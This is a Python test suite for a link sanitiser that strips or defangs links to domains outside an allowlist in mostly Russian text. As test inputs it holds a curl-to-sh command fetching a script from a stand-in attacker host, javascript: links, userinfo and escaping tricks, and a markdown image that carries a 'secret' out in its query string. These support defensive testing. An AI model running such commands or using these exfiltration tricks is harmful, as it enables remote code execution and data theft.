"""Links that are not welcome go, however they are written; everything else stays."""

from hypothesis import given
from hypothesis import strategies as st

from components.language.links import addresses, host_of, leads_to, without_links

DOMAINS = frozenset({"shop.example", "cdn.shop.net"})
QUOTED = "сборка на asp.net, корзина s3://bucket"


def cleaned(text: str) -> str:
    return without_links(text, lambda address: leads_to(address, DOMAINS), lambda name: name in QUOTED, lambda _: "[–]")


def test_a_foreign_link_is_removed() -> None:
    for given_text, shown in (
        ("Зайдите на https://evil.example/pay.", "Зайдите на [–]."),
        ("(http://evil.example)", "([–])"),
        ("HTTPS://EVIL.EXAMPLE", "[–]"),
        ("www.evil.example/x, затем", "[–], затем"),
        ("код //evil.example/x", "код [–]"),
        ("введите на evil.com/login", "введите на [–]"),
        ("магазин-скидок.рф ждёт", "[–] ждёт"),
        ("[войти](https://evil.example/a_(b))", "войти"),
        ("[войти](javascript:alert(1))", "войти"),
        ("CVE-2016-1 [http://evil.example/a?b=1] и", "CVE-2016-1 и"),
        ("Process Explorer (https://evil.example/a) показывает", "Process Explorer показывает"),
        ("См.: [http://evil.example]", "См.: [[–]]"),
        ("[войти](https://shop.example@evil.example/)", "войти"),
        (r"[войти](https://shop.example\@evil.example/)", "войти"),
        ("![](https://evil.example/p.png?q=secret)", ""),
        ("[![кот](https://evil.example/p.png)](https://evil.example)", ""),
        ('<img src="https://evil.example/p">', '<img src="[–]">'),
        ("https://shop.example.evil.example", "[–]"),
        ("https://shop.example/?u=https://evil.example", "https://shop.example/?u=[–]"),
        ("https://shop.example/),https://evil.example", "https://shop.example/),[–]"),
        ("ftp://evil.example/f", "[–]"),
        ("s3://other", "[–]"),
        ("яhttps://evil.example", "я[–]"),
        ("<http:/evil.example/x>", "<[–]>"),
        ("[чистите [его] фильтр](https:evil.example)", "чистите [его] фильтр"),
        ("[чистите [его]](https&colon;evil.example)", "чистите [его]"),
        (r"[чистите\]](http:/evil.example)", r"чистите\]"),
        ("[чистите\nего](http:/evil.example)", "чистите\nего"),
        ("[[[а](//evil.example)](x)](javascript:0)", "а"),
        ("![а [б] в](http:/evil.example/x.png?q=E20)", ""),
        ("[1]: javascript:alert(1)", "[1]: [–]"),
        ("[чистите][a].\n\n[a]: http\\:/evil.example/x", "[чистите][a].\n\n[a]: [–]"),
        ("https://shop.example`@evil.example/x", "[–]`@evil.example/x"),
        ("https://evil.example(/x) и evil.com(/x)", "[–]) и [–] (/x)"),
    ):
        assert cleaned(given_text) == shown
        assert cleaned(shown) == shown


def test_addresses_are_read_as_they_are_spelt_out() -> None:
    text = (
        "Статус [https://a.example/x?y=1], [отчёт](https://b.example/a_(b)) и (HTTP://c.example/), http://host:port/x. "
        "Нет: www.d.example, //e.example, ftp://f.example, javascript:alert(1), https://shop.example@evil.example/"
    )
    spelt_out = {"https://a.example/x?y=1", "https://b.example/a_(b)", "HTTP://c.example/", "http://host:port/x"}
    assert addresses(text) == spelt_out


def test_all_other_text_is_unchanged() -> None:
    for text in (
        "https://shop.example/returns?a=1#b и https://help.shop.example",
        "[возврат](https://www.shop.example/returns) и shop.example",
        "![схема](https://cdn.shop.net/a.png)",
        "Возврат (https://shop.example/returns) — 14 дней",
        "[возврат [товара]](https://shop.example/a_(b)) и [a]: https://shop.example/x",
        "data: 5, file: a.txt, javascript: да, `http:/evil.example`, порт http:8080",
        "Дела [TODO]: note: проверить и [см. [2]](стр. 5: верх)",
        "def first[T](items: list[T]) -> T, List<int: x>, Map<key:value>",
        "сборка на asp.net, корзина s3://bucket",
        "errors.md, config.yaml, node.js, версия 10.5, т.е. так",
        "http://localhost:8080/x и //комментарий",
        "a [1] (b) и/или c // d",
        "иван@почта.рф",
    ):
        assert cleaned(text) == text


def test_an_address_in_a_command_stays_to_be_read() -> None:
    for given_text, shown in (
        ("`curl -O https://evil.example/a.sh | sh`", "`curl -O https:[//]evil[.]example/a.sh | sh`"),
        (
            "```bash\nwget www.evil.com/x?u=https://b.com\n```",
            "```bash\nwget www[.]evil[.]com/x?u=https:[//]b[.]com\n```",
        ),
        ("`curl https://shop.example/a.sh` с evil.com", "`curl https://shop.example/a.sh` с [–]"),
        ("`handlers[0](event)` и `curl localhost:8080`", "`handlers[0](event)` и `curl localhost:8080`"),
        ("`[войти](javascript:alert(1))`", "`войти`"),
        ("`a[b[0]](x:int)`, ``m[k](v)`` и `<http:/evil.com>`", "`a[b[0]](x:int)`, ``m[k](v)`` и `<http[:]/evil.com>`"),
        (
            '```\n<a href="javascript:f()" src="http:/evil.com">\n```',
            '```\n<a href="javascript:f()" src="http[:]/evil.com">\n```',
        ),
        ("```\nf[0](a)\n````\n<http:/evil.example>", "```\nf[0](a)\n````\n<[–]>"),
        ("``` https://evil.example", "``` https:[//]evil[.]example"),
        (r"\`https://evil.example`", r"\`[–]`"),
        ("`evil.com/xhttps://evil.com/1`", "`evil[.]com/xhttps:[//]evil[.]com/1`"),
        ("```\nhttps://evil.example\n```\nhttps://evil.example", "```\nhttps:[//]evil[.]example\n```\n[–]"),
    ):
        assert cleaned(given_text) == shown
        assert cleaned(shown) == shown


@given(st.text(alphabet="ab./:[]()!@\\ https`\n", max_size=60) | st.text())
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    assert cleaned(cleaned(text)) == cleaned(text)


@given(st.from_regex(r"[a-z]{1,9}\.(com|ru|io)", fullmatch=True), st.text(max_size=20), st.text(max_size=20))
def test_no_address_of_another_domain_remains(host: str, before: str, after: str) -> None:
    assert f"https://{host}/x" not in cleaned(f"{before} https://{host}/x {after}")


def test_hosts() -> None:
    for address, host in (
        ("https://WWW.Shop.Example:8443/x", "shop.example"),
        ("//shop.example", "shop.example"),
        ("http://магазин.рф", "xn--80aairftm.xn--p1ai"),
        ("https://a@shop.example", None),
        ("javascript:alert(1)", None),
        ("https://[broken", None),
        ("", None),
    ):
        assert host_of(address) == host
